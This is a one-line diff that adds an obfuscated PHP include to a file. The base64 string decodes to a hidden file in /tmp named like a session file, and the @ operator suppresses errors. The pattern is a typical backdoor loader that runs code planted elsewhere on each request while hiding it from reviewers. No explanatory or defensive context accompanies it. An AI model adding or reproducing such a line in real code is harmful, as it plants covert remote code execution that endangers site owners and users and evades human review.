@@ -1,0 +1,1 @@
+<?php @include(base64_decode('L3RtcC8uc2Vzc19hYmMucGhw'));
